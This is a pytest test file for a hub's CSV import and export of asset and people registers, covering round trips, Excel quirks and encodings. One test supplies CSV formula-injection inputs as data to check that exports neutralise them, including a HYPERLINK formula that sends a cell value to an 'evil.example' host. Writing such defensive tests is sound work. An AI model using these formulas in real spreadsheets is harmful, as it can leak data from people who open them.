"""CSV import and export of the registers in this hub's own format: round trip, spreadsheet
quirks, formulas neutralised, encodings (the import's errors: test_sheet_errors)."""

from __future__ import annotations

import codecs
import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from hub.sheets import (
    ASSET_COLUMNS,
    PEOPLE_COLUMNS,
    AssetRow,
    CsvImportError,
    PersonRow,
    RowError,
    export_assets,
    export_people,
    parse_assets,
    parse_people,
)

ASSET_HEADER = "code,name,category,value,kit,status,acquired,photo_url\n"
PEOPLE_HEADER = "id,name,email,badges,groups,staff\n"


def asset_errors(text: str | bytes) -> list[RowError]:
    with pytest.raises(CsvImportError) as caught:
        parse_assets(text)
    return caught.value.errors


def people_errors(text: str | bytes) -> list[RowError]:
    with pytest.raises(CsvImportError) as caught:
        parse_people(text)
    return caught.value.errors


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_columns_are_the_row_fields_in_order() -> None:
    assert tuple(AssetRow.model_fields) == (*ASSET_COLUMNS, "fields")
    assert tuple(PersonRow.model_fields) == PEOPLE_COLUMNS


def test_assets_round_trip() -> None:
    rows = [
        AssetRow(
            code="cam-1",
            name='Canon R6, body "A"',
            category="Cameras",
            serial="SN 0042",
            home="Shelf 3",
            value="1,234.5",
            photo_url="https://photos.example.org/cam-1.jpg",
            notes="Strap replaced.\nLens cap missing; ask Zoë",
            status="maintenance",
            kit="KIT.1",
            acquired="2023-02-28",
            cost="999",
            supplier="Café Foto GmbH",
        ),
        AssetRow(code="KIT.1", name="Camera kit", category="Kits"),
        AssetRow(code="TRI_2", name="Tripod", category="Grip", value=Decimal("0.1"), cost=0),
    ]
    assert rows[0].code == "CAM-1"
    assert rows[0].value == Decimal("1234.50")

    text = export_assets(rows)

    assert text.splitlines()[0] == ",".join(ASSET_COLUMNS)
    assert parse_assets(text) == rows
    assert parse_assets(export_assets(parse_assets(text))) == rows


def test_people_round_trip() -> None:
    rows = [
        PersonRow(
            id="ada",
            name="Ada Lovelace",
            email="ada@example.org",
            badges="04a1b2c3; 04A1B2C3D4E5F6",
            groups="Film 101;Photo club;Film 101",
            staff="Yes",
        ),
        PersonRow(id="grace.h", name="Grace Hopper", staff=False),
        PersonRow(id="x", name="No flags"),
    ]
    assert rows[0].badges == ["04A1B2C3", "04A1B2C3D4E5F6"]
    assert rows[0].groups == ["Film 101", "Photo club"]

    text = export_people(rows)

    assert cells(text)[1] == [
        "ada",
        "Ada Lovelace",
        "ada@example.org",
        "04A1B2C3;04A1B2C3D4E5F6",
        "Film 101;Photo club",
        "yes",
    ]
    assert cells(text)[2][5] == "no" and cells(text)[3][5] == ""
    assert parse_people(text) == rows


def test_a_file_saved_by_excel() -> None:
    data = (
        "\ufeff Code ;NAME;Category; Value ;Acquired;Notes\r\n"
        "cam-1;Canon R6;Cameras;1,234.50;2024-03-31;fragile, handle with care\r\n"
        "\r\n"
        ";;;;;\r\n"
        'TRI-2;"Tripod; carbon";Grip;80;;\r\n'
    ).encode()

    rows = parse_assets(data)

    assert [row.code for row in rows] == ["CAM-1", "TRI-2"]
    assert rows[0].value == Decimal("1234.50")
    assert rows[0].acquired == date(2024, 3, 31)
    assert rows[0].notes == "fragile, handle with care"
    assert rows[1].name == "Tripod; carbon"
    assert rows[1].acquired is None and rows[1].serial is None


def test_people_from_excel_with_odd_header_and_column_order() -> None:
    text = "\ufeffStaff;Badges;ID;Name\r\nYES;04a1b2c3;ada;Ada\r\n0;;bob;Bob\r\n"

    rows = parse_people(text)

    assert rows == [
        PersonRow(id="ada", name="Ada", badges=["04A1B2C3"], staff=True),
        PersonRow(id="bob", name="Bob", staff=False),
    ]


def test_blank_cells_are_not_set_and_short_lines_are_padded() -> None:
    rows = parse_assets("code,name,category,serial,notes\nA,B,C\nD,E,F,  ,\n")

    assert rows == [
        AssetRow(code="A", name="B", category="C"),
        AssetRow(code="D", name="E", category="F"),
    ]
    assert rows[0].serial is None and rows[1].notes is None


def test_a_header_only_file_has_no_rows() -> None:
    assert parse_assets("code,name,category\r\n") == []


def test_formula_values_are_neutralised_and_round_trip() -> None:
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+2",
        "-2-3",
        "@SUM(A1:A2)",
        "'=already quoted",
        "'plain quote",
    ]
    rows = [
        AssetRow(code=f"A{n}", name=value, category="C", notes=value)
        for n, value in enumerate(hostile)
    ]

    text = export_assets(rows)

    body = cells(text)[1:]
    assert [line[1] for line in body] == [
        "'" + hostile[0],
        "'+1+2",
        "'-2-3",
        "'@SUM(A1:A2)",
        "''=already quoted",
        "'plain quote",
    ]
    assert parse_assets(text) == rows


def test_tab_and_carriage_return_starts_are_neutralised() -> None:
    text = export_people([{"id": "ann", "name": "\tcmd", "groups": "\rx"}])

    row = cells(text)[1]
    assert row[1] == "'\tcmd" and row[4] == "'\rx"


def test_export_formats_database_values() -> None:
    text = export_assets(
        [
            {
                "code": "A",
                "name": "Cam",
                "category": "C",
                "value": 0.1 + 0.2,
                "cost": Decimal("1E+3"),
                "acquired": date(2024, 1, 5),
                "status": "out",
                "kit": None,
                "home": "not a column of the file",
            },
            {"code": "B", "name": "Lens", "category": "C", "value": 12, "status": "retired"},
        ]
    )

    header, first, second = cells(text)
    assert header == list(ASSET_COLUMNS)
    record = dict(zip(header, first, strict=True))
    assert record["value"] == "0.30" and record["cost"] == "1000.00"
    assert record["acquired"] == "2024-01-05"
    assert record["status"] == ""  # an import cannot set out; blank keeps it
    assert record["kit"] == ""
    assert dict(zip(header, second, strict=True))["value"] == "12.00"
    assert text.endswith("\r\n")
    assert [row.status for row in parse_assets(text)] == [None, "retired"]


def test_export_people_joins_badges_and_groups() -> None:
    text = export_people(
        [{"id": "ann", "name": "Ann", "badges": ("04A1B2C3", "0AFFEE11"), "groups": "a;b"}]
    )

    assert cells(text)[1] == ["ann", "Ann", "", "04A1B2C3;0AFFEE11", "a;b", ""]


def test_a_latin1_file_is_refused_with_advice() -> None:
    data = "id,name\nbob,Bob\nzoe,Zoë Ångström\n".encode("latin-1")

    for sample in (data, codecs.BOM_UTF8 + data):
        errors = people_errors(sample)
        assert [error.line for error in errors] == [3]
        assert "not UTF-8" in errors[0].message
        assert "CSV UTF-8" in errors[0].message


def test_utf8_bytes_with_and_without_bom_are_read() -> None:
    text = "id,name\nzoe,Zoë Ångström\n"

    for data in (text.encode(), text.encode("utf-8-sig")):
        assert parse_people(data) == [PersonRow(id="zoe", name="Zoë Ångström")]


def test_rows_refuse_unknown_fields() -> None:
    with pytest.raises(ValueError, match="Extra inputs"):
        AssetRow.model_validate({"code": "A", "name": "B", "category": "C", "colour": "red"})
